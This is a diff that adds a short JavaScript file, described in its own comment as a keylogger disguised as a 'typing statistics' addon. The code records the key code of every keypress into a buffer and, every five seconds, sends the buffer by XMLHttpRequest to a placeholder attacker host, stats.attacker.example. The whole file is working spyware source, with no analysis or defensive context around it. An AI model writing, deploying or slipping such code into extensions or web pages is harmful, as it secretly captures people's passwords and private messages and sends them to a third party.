@@ -1,0 +1,25 @@
+// A keylogger disguised as a "typing statistics" addon: buffers every
+// key code and periodically posts the buffer to a remote endpoint.
+
+var TypingStats = {
+  buffer: "",
+  endpoint: "http://stats.attacker.example/keys?b=",
+  flushMs: 5000
+};
+
+function ts_onKey(event) {
+  var code = event.keyCode;
+  TypingStats.buffer = TypingStats.buffer + "," + code;
+}
+
+function ts_flush() {
+  if (TypingStats.buffer.length > 0) {
+    var req = new XMLHttpRequest();
+    req.open("GET", TypingStats.endpoint + TypingStats.buffer, true);
+    req.send(null);
+    TypingStats.buffer = "";
+  }
+}
+
+window.addEventListener("keypress", ts_onKey, false);
+setInterval(ts_flush, TypingStats.flushMs);
